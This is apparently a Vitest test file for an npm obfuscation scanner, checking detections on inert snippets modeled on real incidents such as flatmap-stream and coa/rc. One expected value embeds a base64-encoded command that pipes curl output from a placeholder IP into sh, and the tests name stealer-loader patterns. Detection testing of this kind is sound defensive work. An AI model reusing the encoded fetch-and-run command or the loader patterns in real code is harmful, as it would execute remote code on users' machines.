/** Obfuscation indicators in JavaScript, on inert snippets modeled on npm incidents. */
import { scanSource, type StaticSignal } from '@airlock/static-signals';
import { describe, expect, it } from 'vitest';
import {
  COA_COMPILE_JS,
  EVAL_BASE64_LOADER,
  EXEC_BASE64_COMMAND,
  FLATMAP_STREAM_DATA,
  FLATMAP_STREAM_LOADER,
  JSFUCK,
  LONG_BASE64,
  MINIFIED_INSTALL_JS,
} from './fixtures/incident-snippets.js';

const summary = (signals: StaticSignal[]) => signals.map((s) => [s.id, s.severity, s.evidence.line]);

describe('decoded data reaching a code sink', () => {
  it('follows base64 through a variable into eval (npm stealer loader)', () => {
    const signals = scanSource({ path: 'index.js', text: EVAL_BASE64_LOADER });
    expect(summary(signals)).toEqual([
      ['obfuscation.long-base64-string', 'low', 1],
      ['obfuscation.exec-decoded', 'high', 3],
    ]);
    expect(signals[1]).toMatchObject({
      message: 'runs decoded or downloaded data: eval(code) where code holds such data',
      evidence: { file: 'index.js', line: 3, snippet: 'eval(code);', value: 'eval(code' },
      details: { count: 1, direct: false },
    });
  });

  it('sees a decoder nested directly in child_process.exec', () => {
    const [signal] = scanSource({ path: 'lib/x.js', text: EXEC_BASE64_COMMAND });
    expect(signal).toMatchObject({
      id: 'obfuscation.exec-decoded',
      severity: 'high',
      evidence: { line: 1, value: "exec(Buffer.from('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvcyB8IHNo','base64'" },
      details: { direct: true },
    });
  });

  it('follows flatmap-stream: createDecipher -> update -> module._compile', () => {
    const signals = scanSource({ path: 'node_modules/flatmap-stream/index.min.js', text: FLATMAP_STREAM_LOADER });
    expect(summary(signals)).toEqual([['obfuscation.exec-decoded', 'high', 4]]);
    expect(signals[0]!.evidence.value).toBe('_compile(a');
  });

  it("reports flatmap-stream's encrypted payload file as a long hex string", () => {
    const [signal] = scanSource({ path: 'test/data.js', text: FLATMAP_STREAM_DATA });
    expect(signal).toMatchObject({
      id: 'obfuscation.long-hex-string',
      severity: 'low',
      evidence: { line: 1 },
      details: { count: 1, length: 284 },
    });
  });

  it('does not flag sinks fed with literals, regex.exec, or decoders whose output is only printed', () => {
    const benign = [
      'const g = new Function("return this")();',
      "const cp = require('child_process');",
      "const m = /a(b)/.exec(Buffer.from(s, 'base64').toString());",
      "const n = new RegExp('x').exec(atob(s)); const o = lineRe.exec(atob(s));",
      "const text = Buffer.from(input, 'base64').toString('utf8');",
      'console.log(text);',
      "eval('1 + 1');",
    ].join('\n');
    expect(scanSource({ path: 'lib/util.js', text: benign })).toEqual([]);
  });

  it('does not link a one-letter minified variable to a sink far away', () => {
    const far = `var t=atob(x);${' '.repeat(6000)}function f(t){return eval(t)}`;
    expect(scanSource({ path: 'dist/bundle.js', text: far })).toEqual([]);
  });

  it('sees renamed eval', () => {
    const text = "const run = eval;\nconst src = atob('Y29uc29sZS5sb2coMSk=');\nrun(src);\n";
    expect(summary(scanSource({ path: 'a.js', text }))).toEqual([['obfuscation.exec-decoded', 'high', 3]]);
  });
});

describe('encoding and obfuscator fingerprints', () => {
  it('counts javascript-obfuscator hex identifiers (coa/rc compile.js), raised when install-time', () => {
    const plain = scanSource({ path: 'compile.js', text: COA_COMPILE_JS });
    expect(plain.map((s) => [s.id, s.severity, s.details?.count, s.details?.distinct])).toEqual([
      ['obfuscation.hex-identifiers', 'medium', 19, 7],
    ]);
    const installTime = scanSource({ path: 'compile.js', text: COA_COMPILE_JS, installTime: true });
    expect(installTime.map((s) => [s.id, s.severity, s.details?.installTime])).toEqual([['obfuscation.hex-identifiers', 'high', true]]);
  });

  it('needs at least five hex identifiers', () => {
    expect(scanSource({ path: 'a.js', text: 'var _0x1a2b = 1, _0x3c4d = 2;' })).toEqual([]);
  });

  it('spots JSFuck', () => {
    const [signal] = scanSource({ path: 'x.js', text: `module.exports = ${JSFUCK}` });
    expect(signal).toMatchObject({ id: 'obfuscation.jsfuck', severity: 'high', evidence: { line: 1 }, details: { length: 206 } });
  });

  it('spots long char-code lists', () => {
    const codes = Array.from({ length: 24 }, (_, i) => 97 + (i % 26)).join(',');
    const [signal] = scanSource({ path: 'x.js', text: `var s = String.fromCharCode(${codes});` });
    expect(signal).toMatchObject({ id: 'obfuscation.charcode-string', severity: 'low' });
  });

  it('ignores base64 in data URIs and source maps, and identifiers that only look long', () => {
    const text = [
      `const img = "data:image/png;base64,${LONG_BASE64}";`,
      `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${LONG_BASE64}`,
      `const name = "${'abcdefghij'.repeat(30)}";`,
    ].join('\n');
    expect(scanSource({ path: 'dist/app.js', text })).toEqual([]);
  });

  it('reports minified code only in install-time files', () => {
    expect(scanSource({ path: 'dist/index.js', text: MINIFIED_INSTALL_JS })).toEqual([]);
    const [signal] = scanSource({ path: 'install.js', text: MINIFIED_INSTALL_JS, installTime: true });
    expect(signal).toMatchObject({
      id: 'obfuscation.minified-install-script',
      severity: 'medium',
      evidence: { line: 1 },
      details: { lineLength: 1651, installTime: true },
    });
  });

  it('scans only the first maxScanChars and says so', () => {
    const text = `${'x'.repeat(100)}\n${EVAL_BASE64_LOADER}`;
    expect(scanSource({ path: 'a.js', text }, { maxScanChars: 50 })).toEqual([]);
    const signals = scanSource(
      { path: 'a.js', text: `${EVAL_BASE64_LOADER}${'\n'.repeat(100)}` },
      { maxScanChars: EVAL_BASE64_LOADER.length },
    );
    expect(signals.map((s) => [s.id, s.details?.scannedChars])).toEqual([
      ['obfuscation.long-base64-string', EVAL_BASE64_LOADER.length],
      ['obfuscation.exec-decoded', EVAL_BASE64_LOADER.length],
    ]);
  });
});
